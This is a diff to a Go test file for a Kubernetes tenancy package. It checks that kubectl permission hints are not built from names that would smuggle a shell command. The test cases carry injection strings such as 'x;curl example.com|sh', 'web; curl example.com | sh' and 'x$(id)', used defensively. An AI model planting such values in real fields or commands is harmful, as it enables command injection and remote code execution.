@@ -53,6 +53,24 @@ func TestWhoActs(t *testing.T) {
 	}
 }
 
+// TestHintsForNoAccount: a name that no account can have grants nothing, and stands in
+// no command.
+func TestHintsForNoAccount(t *testing.T) {
+	who := tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "x;curl example.com|sh"})
+	text := `User "system:serviceaccount:shop:x;curl example.com|sh" cannot patch resource "deployments" in API group "apps" in the namespace "web"`
+	if got := who.Hint(text); got != "" {
+		t.Errorf("hint = %q", got)
+	}
+	if err := who.Check(); err == nil || !strings.Contains(err.Error(), "curl") {
+		t.Errorf("Check = %v", err)
+	}
+	for _, fine := range []tenancy.Identity{{}, tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop"}), tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "flux.applier"})} {
+		if err := fine.Check(); err != nil {
+			t.Errorf("Check of %v = %v", fine, err)
+		}
+	}
+}
+
 func TestRulesAreChecked(t *testing.T) {
 	cases := map[string]struct {
 		rules tenancy.Rules
@@ -110,8 +128,10 @@ func TestHints(t *testing.T) {
 			"kubectl create clusterrole shop-default-namespaces --verb=get,create,patch,delete --resource=namespaces && " +
 				"kubectl create clusterrolebinding shop-default-namespaces --clusterrole=shop-default-namespaces --serviceaccount=shop:default",
 		},
-		"another refusal": {text: "quota exceeded"},
-		"somebody else's": {text: `serviceaccounts "default" is forbidden: User "loops" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "shop"`},
+		"a namespace that a shell would run": {text: denies(`patch resource "configmaps" in API group "" in the namespace "web; curl example.com | sh"`)},
+		"a kind that it would":               {text: denies(`patch resource "x$(id)" in API group "example.com" in the namespace "web"`)},
+		"another refusal":                    {text: "quota exceeded"},
+		"somebody else's":                    {text: `serviceaccounts "default" is forbidden: User "loops" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "shop"`},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
